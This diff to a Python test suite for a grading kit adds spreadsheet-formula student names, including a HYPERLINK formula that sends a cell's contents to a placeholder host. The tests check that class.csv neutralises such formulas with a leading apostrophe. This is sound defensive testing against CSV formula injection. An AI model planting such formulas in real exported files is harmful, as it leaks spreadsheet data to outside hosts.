@@ -61,6 +61,7 @@ CORPUS = PAYLOADS + [
     "José García (12345)", "Ann O'Neil (u-77)",                          # grade.py import's folders
     "gradescope", "slurm", "batch", "gradebook", "students", "class.csv", "class.json", "class.html",
     "summary.txt", "gradings.csv", "index.html", "results.json", "01-fake-5pt",   # the kit's own names
+    '=HYPERLINK("https:\\\\x.example?"&A1,"grade")', "+1 555", "@SUM(A1:A9)",       # spreadsheet formulas
 ]
 #: The entries of OUT's top level, whatever the students are called.
 OUT_TOP = {"class.csv", "class.html", "class.json", "gradescope", "gradings.csv", "students", "summary.txt"}
@@ -129,14 +130,19 @@ def test_the_corpus_grades_as_plain_names(fake_kit, tmp_path, private_tmp, monke
     for name in CORPUS:
         same_grading(json.loads(outdir.report_path(out, name, FAKE_LAB).read_text()),
                      json.loads(outdir.report_path(out, kernel_of(name), FAKE_LAB).read_text()))
-    # shown as written: class.csv, class.html, summary.txt (control characters escaped there)
+    # shown as written: class.csv (a formula after a "'"), class.html, summary.txt (control
+    # characters escaped there)
     with open(out / "class.csv", newline="", encoding="utf-8") as f:
         rows = {row["student"]: row for row in csv.DictReader(f)}
-    assert set(rows) == set(CORPUS) | set(KERNELS)
+    assert set(rows) == {outdir.sheet_cell(n) for n in CORPUS} | set(KERNELS)
+    for formula in ("-rf", "--out=x", "+1 555", "@SUM(A1:A9)", '=HYPERLINK("https:\\\\x.example?"&A1,"grade")'):
+        assert "'" + formula in rows and formula not in rows
+    with open(out / "gradings.csv", newline="", encoding="utf-8") as f:
+        assert not [r for r in csv.DictReader(f) if r["student"][:1] in outdir.FORMULA_START]
     page = (out / "class.html").read_bytes().decode()
     summary = (out / "summary.txt").read_bytes().decode()
     for name in CORPUS:
-        assert rows[name] == dict(rows[kernel_of(name)], student=name)
+        assert rows[outdir.sheet_cell(name)] == dict(rows[kernel_of(name)], student=outdir.sheet_cell(name))
         assert html.escape(name, quote=True) in page
         assert f"  {shown(name)}/{FAKE_LAB}: " in summary
         if not any(c in name for c in "\n\t\x1b\u202e"):
@@ -150,7 +156,7 @@ def test_the_corpus_grades_as_plain_names(fake_kit, tmp_path, private_tmp, monke
     # OUT's layout: no name reaches a kit file
     assert {p.name for p in out.iterdir()} == OUT_TOP
     assert {p.name for p in (out / "students").iterdir()} == set(CORPUS) | set(KERNELS)
-    graded = {n for n in rows if rows[n]["total"]}
+    graded = {n for n in CORPUS + list(KERNELS) if rows[outdir.sheet_cell(n)]["total"]}
     assert {p.name for p in (out / "gradescope" / FAKE_LAB).iterdir()} == graded
     assert all(outdir.gradescope_path(out, FAKE_LAB, n).is_file() for n in graded)
     assert json.loads((out / "class.json").read_text())["layout"] == outdir.LAYOUT
@@ -224,7 +230,7 @@ def test_generated_names_through_the_class_files(fake_kit, tmp_path, monkeypatch
         assert outdir.read_reports(out, [FAKE_LAB])[name][FAKE_LAB]["points"] == canned["points"]
         with open(out / "class.csv", newline="", encoding="utf-8") as f:
             rows = {row["student"]: row for row in csv.DictReader(f)}
-        assert rows[name] == dict(rows["plain"], student=name)
+        assert rows[outdir.sheet_cell(name)] == dict(rows["plain"], student=outdir.sheet_cell(name))
         assert html.escape(name, quote=True) in (out / "class.html").read_bytes().decode()
         assert f"  {shown(name)}/{FAKE_LAB}: incorrect: " in (out / "summary.txt").read_text()
         assert {p.name for p in out.iterdir()} == OUT_TOP
